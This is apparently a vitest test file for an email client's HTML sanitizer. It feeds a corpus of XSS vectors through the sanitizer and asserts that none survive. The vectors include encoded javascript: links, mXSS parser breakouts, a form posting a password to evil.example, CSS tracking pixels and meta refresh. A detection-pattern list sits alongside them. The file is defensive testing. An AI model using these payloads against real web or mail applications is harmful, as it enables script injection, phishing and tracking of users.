import { describe, expect, it } from "vitest";
import { filterStyleSheet, resolveEmailHtml, sanitizeEmailHtml } from "./sanitize-email-html.js";

const clean = (html: string) => sanitizeEmailHtml(html).html;

/** What must never survive sanitizing, whatever the spelling. */
const FORBIDDEN = [
  /<script/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /<(?:form|input|button|select|textarea|iframe|frame|object|embed|meta|base|link|svg|math)\b/i,
  /\ssrc="(?!data:image\/)/i,
  /\ssrcset=/i,
  /\sbackground=/i,
  /url\s*\(/i,
  /expression\s*\(/i,
  /@import/i,
  /data:text/i,
];

/** Classic and less classic XSS vectors, as they arrive in email bodies. */
const CORPUS: Record<string, string> = {
  script: "<script>alert(1)</script><p>ok</p>",
  "script with odd casing and attributes":
    '<ScRiPt type="text/javascript" src="https://evil.example/x.js"></sCrIpT>',
  "img onerror": "<img src=x onerror=alert(1)>",
  "img onerror with quotes and slashes": '<img/src="x"/onerror="alert(1)">',
  "svg onload": "<svg onload=alert(1)><circle r=10 /></svg>",
  "svg with script inside": "<svg><script>alert(1)</script><a xlink:href=javascript:alert(1)>x</a></svg>",
  "svg animate href":
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  "math mglyph style":
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "javascript: href": '<a href="javascript:alert(1)">x</a>',
  "javascript: href with entities":
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  "javascript: href with hex entities and no semicolons":
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  "javascript: href with a tab entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
  "javascript: href with a newline": '<a href="java\nscript:alert(1)">x</a>',
  "javascript: href with leading spaces and control characters":
    '<a href=" \u0001 javascript:alert(1)">x</a>',
  "javascript: href in upper case": '<a href="JAVASCRIPT:alert(1)">x</a>',
  "vbscript: href": '<a href="vbscript:msgbox(1)">x</a>',
  "data:text/html link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  "data:text/html img": '<img src="data:text/html,<script>alert(1)</script>">',
  "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>x</p>',
  "meta refresh to a site": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  "base href": '<base href="https://evil.example/"><a href="/phish">x</a>',
  "form action":
    '<form action="https://evil.example/steal" method="post"><input name="password"><button>Log in</button></form>',
  "formaction button": '<button formaction="javascript:alert(1)">x</button>',
  iframe: '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "object and embed":
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
  "CSS expression in style": '<div style="width: expression(alert(1))">x</div>',
  "CSS url() in style": '<div style="background-image: url(https://tracker.example/p.gif)">x</div>',
  "CSS url() spelled with escapes": '<div style="background: u\\72l(https://tracker.example/p.gif)">x</div>',
  "CSS behavior and binding": '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">x</div>',
  "style block with import and url()":
    "<style>@import url(https://evil.example/x.css); @import 'https://evil.example/y.css'; " +
    "p { background: url('https://tracker.example/p.gif') } b { color: red }</style><p>x</p>",
  "style block with escapes": "<style>p { background: \\75rl(https://tracker.example/p.gif) }</style>",
  "style block with image-set":
    '<style>p { background-image: image-set("https://tracker.example/p.gif" 1x) }</style>',
  "style block breaking out": "<style></style><script>alert(1)</script><style></style>",
  "style block hiding markup": "<style><img src=x onerror=alert(1)></style>",
  srcset: '<img srcset="https://tracker.example/a.gif 1x, javascript:alert(1) 2x">',
  "picture source": '<picture><source srcset="https://tracker.example/a.gif"><img src="cid:x"></picture>',
  "table background":
    '<table background="https://tracker.example/bg.gif"><tr><td background="http://t.example/b.gif">x</td></tr></table>',
  "nested broken tags": "<<script>script>alert(1)<</script>/script><p <img src=x onerror=alert(1)>>x</p>",
  "unclosed tag": "<img src=x onerror=alert(1)",
  "broken attribute quotes": '<a href="https://ok.example/" onmouseover="alert(1)"x="y">x</a>',
  "comment tricks": "<!--><img src=x onerror=alert(1)>--><!-- --!><script>alert(1)</script> -->",
  "conditional comment": "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
  CDATA: "<![CDATA[<script>alert(1)</script>]]>",
  "noscript parsing difference": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "textarea breakout": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  "xmp breakout": "<xmp><img src=x onerror=alert(1)></xmp>",
  "title breakout": "<title><img src=x onerror=alert(1)></title>",
  "event handler on body": '<body onload="alert(1)"><p>x</p></body>',
  "markers forged by the sender":
    '<img data-heed-src="javascript:alert(1)" data-heed-cid="x"><td data-heed-background="x">',
  "protocol-relative image": '<img src="//tracker.example/p.gif">',
  "details ontoggle": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  "marquee and video":
    '<marquee onstart="alert(1)">x</marquee><video poster="https://t.example/p.gif"><source src="x"></video>',
};

describe("sanitizeEmailHtml", () => {
  describe("an XSS corpus", () => {
    for (const [name, html] of Object.entries(CORPUS)) {
      it(`neutralizes ${name}`, () => {
        const output = clean(html);
        for (const pattern of FORBIDDEN) expect(output, `${pattern} in ${output}`).not.toMatch(pattern);
        // Sanitizing its own output changes nothing but the markers (which only the sanitizer may
        // write): no parser difference is left to exploit.
        expect(clean(output)).toBe(output.replace(/ data-heed-[a-z]+="[^"]*"/g, ""));
      });
    }
  });

  it("keeps formatting, tables, colours and plain styles", () => {
    const output = clean(
      '<table width="100%" cellpadding="4"><tr><td align="right" style="color: #333; font-family: Arial, sans-serif; padding: 4px">' +
        '<font color="red" face="Verdana">Hi</font> <b>bold</b> <i>it</i> <u>u</u></td></tr></table>' +
        "<blockquote>quoted</blockquote><ul><li>one</li></ul><pre>code</pre>",
    );
    expect(output).toBe(
      '<table width="100%" cellpadding="4"><tr><td align="right" style="color:#333;font-family:Arial, sans-serif;padding:4px">' +
        '<font color="red" face="Verdana">Hi</font> <b>bold</b> <i>it</i> <u>u</u></td></tr></table>' +
        "<blockquote>quoted</blockquote><ul><li>one</li></ul><pre>code</pre>",
    );
  });

  it("drops positioning and other properties outside the allow-list from style attributes", () => {
    expect(clean('<div style="position: fixed; top: 0; z-index: 99; color: red">x</div>')).toBe(
      '<div style="color:red">x</div>',
    );
  });

  it("opens links in a new tab without opener or referrer, and keeps mailto: and tel:", () => {
    expect(clean('<a href="https://shop.example/order?id=1&amp;x=2">order</a>')).toBe(
      '<a href="https://shop.example/order?id=1&amp;x=2" target="_blank" rel="noopener noreferrer nofollow">order</a>',
    );
    expect(clean('<a href="mailto:ana@example.com">mail</a><a href="tel:+385123">call</a>')).toBe(
      '<a href="mailto:ana@example.com" target="_blank" rel="noopener noreferrer nofollow">mail</a>' +
        '<a href="tel:+385123" target="_blank" rel="noopener noreferrer nofollow">call</a>',
    );
    // Relative links would point into Heed itself.
    expect(clean('<a href="/api/v1/session" target="_self">x</a>')).toBe(
      '<a target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  it("drops the document's head and title but keeps the body's content and colours", () => {
    expect(
      clean(
        '<html><head><title>Secret title</title></head><body bgcolor="#eeeeee"><p>Hello</p></body></html>',
      ),
    ).toBe('<div bgcolor="#eeeeee"><p>Hello</p></div>');
  });

  it("writes remote images as markers and reports them", () => {
    const result = sanitizeEmailHtml(
      '<img src="https://cdn.example/logo.png" srcset="https://cdn.example/logo@2x.png 2x" alt="Logo">' +
        '<table background="http://cdn.example/bg.png"><tr><td>x</td></tr></table>',
    );
    expect(result.hasRemoteImages).toBe(true);
    expect(result.html).toBe(
      '<img alt="Logo" data-heed-src="https://cdn.example/logo.png" data-heed-srcset="https://cdn.example/logo@2x.png 2x" />' +
        '<table data-heed-background="http://cdn.example/bg.png"><tr><td>x</td></tr></table>',
    );
    expect(sanitizeEmailHtml("<p>No images</p>").hasRemoteImages).toBe(false);
  });

  it("writes cid: images as markers and lists their Content-IDs", () => {
    const result = sanitizeEmailHtml(
      '<img src="cid:Error-Shot.18@example.com" alt="error.png"><img src="cid:%3Cpart2%40example.com%3E">',
    );
    expect(result.html).toBe(
      '<img alt="error.png" data-heed-cid="error-shot.18@example.com" /><img data-heed-cid="part2@example.com" />',
    );
    expect(result.inlineContentIds).toEqual(["error-shot.18@example.com", "part2@example.com"]);
    expect(result.hasRemoteImages).toBe(false);
  });

  it("keeps raster data: images but no other data: URL", () => {
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=">')).toBe(
      '<img src="data:image/png;base64,iVBORw0KGgo=" />',
    );
    expect(clean('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">')).toBe("<img />");
  });

  it("keeps style blocks without what loads", () => {
    expect(clean("<style>p { color: red } .a > .b { margin: 0 }</style><p>x</p>")).toBe(
      "<style>p { color: red } .a > .b { margin: 0 }</style><p>x</p>",
    );
    expect(clean("<style>p { color: red; background: url(https://t.example/p.gif) }</style>")).toBe(
      "<style>p { color: red;}</style>",
    );
  });

  it("never throws and stays bounded on deep nesting", () => {
    const deep = "<div>".repeat(5000) + "deep" + "</div>".repeat(5000);
    const output = clean(deep);
    expect(output).toContain("deep");
    expect(output.split("<div>").length - 1).toBeLessThanOrEqual(200);
    expect(clean("")).toBe("");
    expect(clean("\u0000<p>\u0000</p>")).not.toMatch(/<script/);
  });
});

describe("filterStyleSheet", () => {
  it("refuses CSS with escapes or markup, and removes imports and url()", () => {
    expect(filterStyleSheet("p{color:red}")).toBe("p{color:red}");
    expect(filterStyleSheet("p{content:'\\2022'}")).toBeNull();
    expect(filterStyleSheet("p{}</style><script>")).toBeNull();
    expect(filterStyleSheet("@import url(x.css); p{color:red}")).toBe(" p{color:red}");
    expect(filterStyleSheet("p{background:url(x)}")).toBe("p{}");
    expect(filterStyleSheet("/* unterminated")).toBeNull();
  });
});

describe("resolveEmailHtml", () => {
  const stored = sanitizeEmailHtml(
    '<p title="data-heed-src=&quot;x&quot;">data-heed-src="https://text.example/"</p>' +
      '<img src="cid:shot@example.com" alt="shot"><img src="cid:missing@example.com" alt="gone">' +
      '<img src="http://cdn.example/a.png?x=1&amp;y=2" srcset="http://cdn.example/b.png 2x">' +
      '<table background="https://cdn.example/bg.png"><tr><td>x</td></tr></table>',
  ).html;
  const inlineImageUrl = (cid: string) => (cid === "shot@example.com" ? "/api/v1/attachments/abc" : null);

  it("shows inline images, keeps remote ones blocked by default", () => {
    const html = resolveEmailHtml(stored, { allowRemoteImages: false, inlineImageUrl });
    expect(html).toContain('<img alt="shot" src="/api/v1/attachments/abc" />');
    expect(html).toContain('<img alt="gone" />');
    expect(html).not.toMatch(/\s(?:src|srcset|background)="https?:/);
    // Text and attribute values that merely look like markers stay as they were.
    expect(html).toContain(
      '<p title="data-heed-src=&quot;x&quot;">data-heed-src="https://text.example/"</p>',
    );
  });

  it("loads remote images over https when allowed", () => {
    const html = resolveEmailHtml(stored, { allowRemoteImages: true, inlineImageUrl });
    expect(html).toContain(
      '<img src="https://cdn.example/a.png?x=1&amp;y=2" srcset="https://cdn.example/b.png 2x" />',
    );
    expect(html).toContain('<table background="https://cdn.example/bg.png">');
    expect(html).not.toMatch(/<[^>]*\sdata-heed-/);
  });
});
